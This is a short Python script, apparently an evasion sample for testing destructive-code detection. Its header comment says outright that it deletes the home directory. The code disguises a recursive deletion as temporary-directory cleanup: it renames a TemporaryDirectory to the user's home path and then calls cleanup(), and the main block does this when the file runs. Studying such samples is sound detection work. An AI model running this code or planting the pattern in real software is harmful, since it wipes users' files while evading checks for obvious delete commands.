# Evasion: deletes the home directory recursively. A TemporaryDirectory's
# cleanup() removes whatever `name` says; the name is reassigned to the home
# directory before cleanup, so the "scratch cleanup" is rmtree(home).
import tempfile
from pathlib import Path


class Workspace:
    def __init__(self):
        self._tmp = tempfile.TemporaryDirectory(prefix="job-")

    def relocate(self, where):
        self._tmp.name = str(where)

    def close(self):
        self._tmp.cleanup()


if __name__ == "__main__":
    ws = Workspace()
    ws.relocate(Path.home())
    ws.close()
